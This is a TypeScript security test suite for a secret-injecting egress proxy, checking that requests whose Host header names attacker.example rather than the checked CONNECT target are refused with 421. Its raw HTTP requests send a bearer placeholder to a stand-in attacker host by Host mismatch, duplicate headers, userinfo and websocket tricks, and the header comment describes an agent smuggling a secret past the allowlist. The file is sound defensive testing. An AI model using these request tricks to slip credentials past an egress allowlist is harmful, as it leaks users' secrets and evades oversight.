import { expect } from 'chai';
import { startAttackWorld, type AttackWorld } from '../helpers/attack-fixture.js';
import { openTunnel, rawConnect, rawProxyExchange, rawTunnelExchange, statusOf, proxyAuthorization } from '../helpers/proxy-client.js';

/**
 * Hole 2 (high): the Host header could differ from the host that was checked. Inside a
 * `CONNECT api.allowed.com:443` tunnel the agent sent `Host: attacker.example`: the
 * allowlist, allowed_hosts and the classifier judged the CONNECT target while the
 * upstream got the agent's Host, and a virtual-host router (one IP serving many names)
 * handed the request, with the real secret swapped in, to the other name. The fake
 * upstream here is exactly such a router: it answers for every name.
 */
const KEY = 'sk_live_51HostMismatchRealKey';

describe('security: the Host must name the host that was checked (hole 2)', function () {
  this.timeout(30000);
  let w: AttackWorld;

  before(async () => {
    w = await startAttackWorld({
      hosts: ['api.allowed.com', 'attacker.example', 'plain.allowed.com'],
      egress: ['api.allowed.com', 'plain.allowed.com'],
      secrets: { KEY: { value: KEY, allowed_hosts: ['api.allowed.com'] } },
    });
  });
  after(async () => w?.close());
  beforeEach(async () => w.mark());

  const inTunnel = (lines: string[]) => rawTunnelExchange(w.gw, 'api.allowed.com', `${lines.join('\r\n')}\r\nConnection: close\r\n\r\n`);

  async function mismatch(raw: string): Promise<void> {
    const r = statusOf(raw);
    expect(r.status, raw).to.equal(421);
    expect(r.error).to.equal('host_mismatch');
    expect(JSON.parse(r.body)).to.include({ error: 'host_mismatch' });
    expect(w.up.seen, 'nothing may reach any host').to.have.length(0);
    const [e] = await w.audited(1);
    expect(e).to.include({ decision: 'deny', reason: 'host_mismatch', status: 421 });
  }

  it('attack: CONNECT api.allowed.com, then Host: attacker.example with the placeholder', async () => {
    await mismatch(await inTunnel(['GET /v1/steal HTTP/1.1', 'Host: attacker.example', `Authorization: Bearer ${w.ph.KEY}`]));
  });

  it('attack: an absolute-form URL naming attacker.example inside the tunnel', async () => {
    await mismatch(await inTunnel(['GET https://attacker.example/v1/steal HTTP/1.1', 'Host: api.allowed.com', `Authorization: Bearer ${w.ph.KEY}`]));
  });

  it('attack: two Host headers (which one a server uses is its choice)', async () => {
    await mismatch(await inTunnel(['GET / HTTP/1.1', 'Host: api.allowed.com', 'Host: attacker.example', `Authorization: Bearer ${w.ph.KEY}`]));
  });

  it('attack: the right name on another port (Host: api.allowed.com:8443 in a tunnel to 443)', async () => {
    await mismatch(await inTunnel(['GET / HTTP/1.1', 'Host: api.allowed.com:8443', `Authorization: Bearer ${w.ph.KEY}`]));
  });

  it('attack: a Host that is not a host at all (userinfo, a path)', async () => {
    await mismatch(await inTunnel(['GET / HTTP/1.1', 'Host: api.allowed.com@attacker.example']));
  });

  it('attack: mismatched Host on an upgrade request inside the tunnel', async () => {
    await mismatch(await inTunnel(['GET /socket HTTP/1.1', 'Host: attacker.example', 'Upgrade: websocket', 'Connection: Upgrade', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==']));
  });

  it('attack: plain http:// proxy request whose Host names another host', async () => {
    await mismatch(await rawProxyExchange(w.gw, `GET http://plain.allowed.com/x HTTP/1.1\r\nHost: attacker.example\r\nProxy-Authorization: ${proxyAuthorization(w.gw)}\r\nConnection: close\r\n\r\n`));
  });

  it('attack: plain http:// upgrade whose Host names another host', async () => {
    await mismatch(await rawProxyExchange(w.gw, `GET http://plain.allowed.com/socket HTTP/1.1\r\nHost: attacker.example\r\nProxy-Authorization: ${proxyAuthorization(w.gw)}\r\n` +
      'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n'));
  });

  it('the same host spelled differently is the same host: case, a trailing dot, the default port; upstream gets the canonical Host', async () => {
    for (const host of ['API.Allowed.COM', 'api.allowed.com.', 'api.allowed.com:443']) {
      const raw = await inTunnel(['GET /v1/ok HTTP/1.1', `Host: ${host}`, `Authorization: Bearer ${w.ph.KEY}`]);
      expect(statusOf(raw).status, `${host}: ${raw}`).to.equal(200);
    }
    expect(w.up.seen.map((s) => s.headers.host)).to.deep.equal(['api.allowed.com', 'api.allowed.com', 'api.allowed.com']);
    expect(w.up.seen.every((s) => s.headers.authorization === `Bearer ${KEY}`)).to.equal(true);
  });

  it('keep-alive: a second request on the same tunnel with a bad Host is refused, the first went through', async () => {
    const t = await openTunnel(w.gw, 'api.allowed.com');
    t.tls.write(`GET /v1/one HTTP/1.1\r\nHost: api.allowed.com\r\nAuthorization: Bearer ${w.ph.KEY}\r\n\r\n`);
    expect(statusOf(await t.read()).status).to.equal(200);
    t.tls.write(`GET /v1/two HTTP/1.1\r\nHost: attacker.example\r\nAuthorization: Bearer ${w.ph.KEY}\r\n\r\n`);
    const second = statusOf(await t.read());
    t.tls.destroy();
    expect([second.status, second.error]).to.deep.equal([421, 'host_mismatch']);
    expect(w.up.seen.map((s) => s.url)).to.deep.equal(['/v1/one']);
  });

  it('CONNECT to a host off the allowlist stays refused whatever Host the tunnel then sends', async () => {
    const { head, socket } = await rawConnect(w.gw, 'attacker.example:443');
    socket.destroy();
    expect(head).to.match(/^HTTP\/1\.1 200 /); // the tunnel opens; every request in it is judged by its target
    const raw = await rawTunnelExchange(w.gw, 'attacker.example', 'GET / HTTP/1.1\r\nHost: api.allowed.com\r\nConnection: close\r\n\r\n');
    expect(statusOf(raw).status).to.equal(421);
    const raw2 = await rawTunnelExchange(w.gw, 'attacker.example', 'GET / HTTP/1.1\r\nHost: attacker.example\r\nConnection: close\r\n\r\n');
    expect(statusOf(raw2)).to.include({ status: 403, error: 'egress_denied' });
    expect(w.up.seen).to.have.length(0);
  });
});
